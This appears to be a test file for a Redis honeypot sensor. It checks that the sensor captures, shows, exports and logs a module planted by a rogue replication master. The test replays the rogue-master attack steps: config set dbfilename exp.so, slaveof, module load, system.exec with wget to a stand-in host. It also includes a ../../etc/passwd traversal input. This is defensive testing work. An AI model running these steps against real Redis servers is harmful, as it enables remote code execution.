import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Uint8ArrayReader, Uint8ArrayWriter, ZipReader } from '@zip.js/zip.js';
import { expect, onTestFinished, test } from 'vitest';
import { temporaryData } from './peers/data-folder.ts';
import { inertElf } from './peers/inert-elf.ts';
import { redisCli } from './peers/redis-cli.ts';
import { fullResync, startRogueMaster } from './peers/rogue-master.ts';
import { startSensor } from './peers/running-sensor.ts';
import { sundew } from './peers/sundew.ts';

const MODULE = inertElf({
  symbols: ['RedisModule_OnLoad', 'popen'],
  texts: ['RedisModule_CreateCommand', 'system.exec', 'system.rev', 'http://files.example.invalid/x.sh'],
});
const SHA256 = createHash('sha256').update(MODULE).digest('hex');

test('a rogue master’s file is captured, listed, shown and exported, and the attack is told', async () => {
  const rogue = await startRogueMaster(fullResync(MODULE));
  onTestFinished(() => rogue.stop());
  const data = temporaryData();
  const { port, running } = await startSensor(data, '--capture', 'masters', '--capture-allow', '127.0.0.0/8');
  expect(running.out()).toContain('Captures');

  await redisCli(
    port,
    [],
    ['config set dir /tmp', 'config set dbfilename exp.so', `slaveof 127.0.0.1 ${rogue.port}`, ''].join('\n'),
  );
  await expect
    .poll(async () => (await sundew(['capture', 'list', '--csv'], data)).out, { timeout: 15_000 })
    .toContain(SHA256);
  const said = await redisCli(
    port,
    [],
    [
      'slaveof no one',
      'module load ./exp.so',
      'system.exec id',
      'system.exec "wget http://files.example.invalid/y"',
      '',
    ].join('\n'),
  );

  expect(said).toMatch(/^OK\nOK\nuid=\d+\(redis\)/);
  const shown = await sundew(['capture', 'show', SHA256.slice(0, 8)], data);
  expect(shown.out).toContain('hxxp://files[.]example[.]invalid/x[.]sh');
  expect(shown.out).toContain('system.rev');
  expect(shown.out).toContain(`127.0.0.1:${rogue.port}`);

  const out = join(data.SUNDEW_DATA, 'out.zip');
  expect((await sundew(['capture', 'export', SHA256, '--out', out], data)).code).toBe(0);
  const [entry] = await new ZipReader(new Uint8ArrayReader(readFileSync(out))).getEntries();
  if (entry === undefined || entry.directory) throw new Error('the zip is empty');
  expect(entry).toMatchObject({ filename: SHA256, encrypted: true });
  const content = await entry.getData(new Uint8ArrayWriter(), { password: 'infected' });
  expect(Buffer.from(content).equals(MODULE)).toBe(true);
  expect((await sundew(['capture', 'export', SHA256, '--out', out], data)).code).toBe(2);

  const events = (await sundew(['events', '--ndjson'], data)).out;
  for (const type of ['master.dialled', 'file.captured', 'shell.command'])
    expect(events).toContain(`"${type}"`);
  const findings = (await sundew(['findings', '--csv'], data)).out;
  expect(findings).toContain('redis.master-sent-program');
  const indicators = (await sundew(['indicators', '--csv'], data)).out;
  expect(indicators).toContain(SHA256);
});

test.for([
  ['capture', 'show', 'feed'],
  ['capture', 'show', '../../etc/passwd'],
  ['capture', 'export', 'zz'],
  ['up', '--capture', 'everything'],
  ['up', '--capture', 'masters', '--capture-allow', 'example.invalid'],
])('%s %s %s is refused with a remedy', async (words) => {
  const { code, err } = await sundew(words, temporaryData());

  expect(code).toBe(2);
  expect(err).not.toBe('');
});
